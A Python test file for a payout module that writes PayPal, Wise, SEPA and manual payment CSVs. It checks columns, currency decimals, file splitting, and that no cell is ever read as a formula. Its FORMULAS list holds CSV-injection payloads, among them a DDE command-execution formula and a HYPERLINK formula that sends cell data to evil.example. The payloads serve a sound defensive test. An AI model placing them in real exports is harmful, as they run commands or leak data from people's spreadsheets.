"""Payment files in CSV: what PayPal, Wise and a person read, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
from io import StringIO

import msgspec
import pytest
from payout_file_world import HEADER, IBANS, order, sepa_order, transfers

from ledger.payouts.files import RenderedFile, check, render
from ledger.payouts.orders import (
    ManualPayee,
    PayoutFileError,
    PayPalPayee,
    WisePayee,
)
from ledger.payouts.text import cell, starts_formula

# OWASP "CSV Injection" and public payload lists: formulas bare, behind quotes, spaces and invisible characters, in
# full-width forms, behind line ends and separators.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "  \u00a0=1+1", '"=1+1"',
    "'=1+1", "“=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "\u200b=1", "\ufeff=1", "\u202e=1", "−1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"ok")', "x\r\n=1+1", "x;=1+1", 'x";=1+1', "x\t=1+1",
]  # fmt: skip


def rows(file: RenderedFile) -> list[list[str]]:
    return list(csv.reader(StringIO(file.content.decode(), newline="")))


def test_paypal_rows_have_the_columns_that_paypal_reads() -> None:
    """Recipient, amount, currency, our payout id, note, wallet; no header row; a comma where the country writes it."""
    one = order(1, PayPalPayee(email="ada@example.com"), 123456)
    [file] = render(HEADER, [one], "paypal")
    assert rows(file) == [["ada@example.com", "1234.56", "EUR", "PO00001", "PO00001 Commission acme 2026-09", "PAYPAL"]]
    [comma] = render(msgspec.structs.replace(HEADER, decimal_comma=True), [one], "paypal")
    assert rows(comma)[0][1] == "1234,56"
    assert check(comma.content, "paypal", "EUR") == check(file.content, "paypal", "EUR") == (1, 123456, {"PO00001"})


def test_currencies_without_decimals_are_written_without() -> None:
    """JPY by ISO 4217, HUF because PayPal takes no decimals of it; an amount that has some is refused."""
    header = msgspec.structs.replace(HEADER, currency="JPY")
    payee = PayPalPayee(email="ada@example.com")
    assert rows(render(header, [order(1, payee, 500, currency="JPY")], "paypal")[0])[0][1] == "500"
    header = msgspec.structs.replace(HEADER, currency="HUF")
    [file] = render(header, [order(1, payee, 50000, currency="HUF")], "paypal")
    assert rows(file)[0][1] == "500"
    assert check(file.content, "paypal", "HUF")[1] == 50000
    with pytest.raises(PayoutFileError, match="aff-1: PayPal takes HUF without decimals"):
        render(header, [order(1, payee, 50050, currency="HUF")], "paypal")
    header = msgspec.structs.replace(HEADER, currency="KWD")
    manual = order(1, ManualPayee(instructions="cash"), 12345, currency="KWD")
    assert rows(render(header, [manual], "manual")[0])[1][2] == "12.345"


def test_paypal_refuses_what_it_would_refuse() -> None:
    """An id over 30 characters or with a space, and an e-mail that a spreadsheet would run."""
    good = PayPalPayee(email="a@example.com")
    for one, says in [
        (order(1, good, payout_id="x" * 31), "30 characters"),
        (order(1, good, payout_id="a b"), "no spaces"),
        (order(1, PayPalPayee(email="=cmd@example.com")), "details.email"),
    ]:
        with pytest.raises(PayoutFileError, match=f"affiliate aff-1: .*{says}"):
            render(HEADER, [one], "paypal")


def test_one_payout_more_than_a_file_holds() -> None:
    """PayPal: 5,000 a file; Wise: 1,000; SEPA: all in one. Totals are right, and no id is in two files."""
    emails = [order(n, PayPalPayee(email=f"a{n}@example.com"), n + 1) for n in range(5_001)]
    files = render(HEADER, emails, "paypal")
    assert [(f.name[-12:], f.count) for f in files] == [("paypal-1.csv", 5000), ("paypal-2.csv", 1)]
    assert len(render(HEADER, emails[:5000], "paypal")) == 1
    wise = [order(n, WisePayee(name="Ada", receiver_type="PERSON", iban=IBANS[0]), n + 1) for n in range(5_001)]
    made = {"paypal": files, "wise": render(HEADER, wise, "wise")}
    made["sepa"] = render(HEADER, [sepa_order(n, n + 1) for n in range(5_001)], "sepa")
    assert [len(made[m]) for m in ("paypal", "wise", "sepa")] == [2, 6, 1]
    for method, found in made.items():
        counts, sums, ids = zip(*(check(f.content, method, "EUR") for f in found), strict=True)
        assert (sum(counts), sum(sums), len(set().union(*ids))) == (5_001, 5_001 * 5_002 // 2, 5_001)
    assert len(transfers(made["sepa"][0].content)) == 5_001


def test_wise_has_a_file_for_each_template() -> None:
    """IBAN, Australian account and e-mail are different templates; the payee gets the exact amount."""
    header = msgspec.structs.replace(HEADER, currency="AUD")
    payees = [
        WisePayee(name="Ada Byron", receiver_type="PERSON", email="ada@x.io", iban=IBANS[0]),
        WisePayee(name="Bob Pty", receiver_type="INSTITUTION", bsb_code="062-000", account_number="01234567"),
        WisePayee(name="Cy", receiver_type="PERSON", email="cy@x.io"),
    ]
    files = render(header, [order(n, p, currency="AUD") for n, p in enumerate(payees)], "wise")
    head = ["name", "recipientEmail", "paymentReference", "receiverType", "amountCurrency", "amount"]
    head += ["sourceCurrency", "targetCurrency"]
    target = ["target", "49.90", "AUD", "AUD"]
    assert {f.name.split("wise-")[1]: rows(f) for f in files} == {
        "iban-1.csv": [[*head, "IBAN"], ["Ada Byron", "ada@x.io", "PO00000", "PERSON", *target, IBANS[0]]],
        "bsb-1.csv": [
            [*head, "bsbCode", "accountNumber"],
            ["Bob Pty", "", "PO00001", "INSTITUTION", *target, "062-000", "01234567"],
        ],
        "email-1.csv": [head, ["Cy", "cy@x.io", "PO00002", "PERSON", *target]],
    }


def test_the_manual_list_has_all_that_a_person_needs() -> None:
    """Whom, how much, by when, how, and under which reference; line ends become spaces."""
    [file] = render(HEADER, [order(1, ManualPayee(instructions="Cash,\nat the desk"))], "manual")
    assert rows(file)[1] == [
        "PO00001", "aff-1", "49.90", "EUR", "2026-10-02", "Cash, at the desk", "Commission acme 2026-09",
    ]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_any_csv_is_a_formula(formula: str) -> None:
    """Free text that begins like a formula gets an apostrophe; no reader, of commas, semicolons or tabs, finds one."""
    header = msgspec.structs.replace(HEADER, remittance=formula)
    name = formula if any(c.isalnum() for c in formula) else formula + "x"
    files = render(header, [order(1, ManualPayee(instructions=formula), affiliate_id="-dash")], "manual")
    files += render(header, [order(1, PayPalPayee(email="a@example.com"))], "paypal")
    if name.isprintable():
        files += render(header, [order(1, WisePayee(name=name, receiver_type="PERSON", iban=IBANS[0]))], "wise")
    for file in files:
        for delimiter in ",;\t":
            for row in csv.reader(StringIO(file.content.decode(), newline=""), delimiter=delimiter):
                assert not [value for value in row if value[:1] in "=+-@\t\r\n\0＝＋－＠−" and value]
                assert not [v for v in row if starts_formula(v) and not v.startswith("'")]
    assert starts_formula(formula) is (not formula.startswith("x"))


@pytest.mark.parametrize(
    "text", ["Ada Byron", "'t Hooft", "O'Neill", "Müller & Co.", "a-b+c=d@e", "山田太郎", "", "(x)"]
)
def test_harmless_text_is_not_touched(text: str) -> None:
    """A payee's name is what the bank compares: only what a spreadsheet would run is altered."""
    assert cell(text) == text
